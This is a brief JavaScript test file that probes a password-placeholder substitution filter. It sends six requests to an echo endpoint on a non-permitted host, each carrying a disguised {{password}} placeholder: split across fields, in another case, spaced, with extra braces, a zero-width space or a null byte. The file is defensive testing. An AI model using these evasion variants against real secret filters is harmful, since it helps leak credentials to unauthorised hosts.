// Tries: to get the password past whoever looks for its placeholder: split over fields, nested, in another case, with spaces.
// Keeps: what is not the placeholder stays what it is.
// Hosts: {HOLDER} {OTHER}
// Outcome: Done
// Requests: 6
exports.sync = function (hub) {
    var at = "http://{OTHER}/echo";
    hub.http.get(at, { query: { a: "{{pass", b: "word}}" } });
    hub.http.get(at, { query: { a: "{{PASSWORD}}" } });
    hub.http.get(at, { query: { a: "{{ password }}" } });
    hub.http.get(at, { query: { a: "{{{password}" } });
    hub.http.post(at, { body: "{{pass\u200bword}}" });
    hub.http.post(at, { json: { a: "{\u0000{password}}" } });
};
